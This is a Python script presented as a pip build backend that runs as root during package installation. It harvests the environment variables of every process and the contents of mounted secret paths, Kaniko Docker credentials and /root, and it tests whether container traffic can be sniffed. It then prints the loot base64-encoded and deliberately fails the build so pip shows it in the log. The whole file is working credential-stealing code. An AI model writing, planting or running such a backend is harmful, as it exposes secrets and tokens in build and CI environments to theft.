"""A build backend for pip, as any dependency may bring its own: runs as root while pip installs, with all that loot.mjs looks for but the network."""

import base64
import glob
import json
import os
import socket


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(8192).decode("utf-8", "replace")
    except OSError as error:
        return f"unreadable: {error.strerror}"


def mounted_files():
    mounts = [line.split()[4] for line in read("/proc/self/mountinfo").splitlines()]
    places = [path for path in mounts if path != "/" and not path.startswith(("/proc", "/sys", "/dev"))]
    for place in [*places, "/run/secrets", "/var/run/secrets", "/kaniko/.docker", "/root"]:
        if os.path.isfile(place):
            yield place
        for folder, _, names in os.walk(place):
            yield from (os.path.join(folder, name) for name in names)


def sniff():
    """The other containers' traffic, for the pod has one network."""
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)).close()
        return "can sniff"
    except OSError as error:
        return error.strerror


found = {
    "environments": {path.split("/")[2]: read(path).split("\0") for path in glob.glob("/proc/[0-9]*/environ")},
    "files": {path: read(path) for path in mounted_files() if os.path.getsize(path) <= 8192},
    "status": read("/proc/self/status"),
    "sniffing": sniff(),
}
# pip shows what a backend printed only where it fails.
print(f"LOOT {base64.b64encode(json.dumps(found).encode()).decode()} END", flush=True)
raise SystemExit(1)
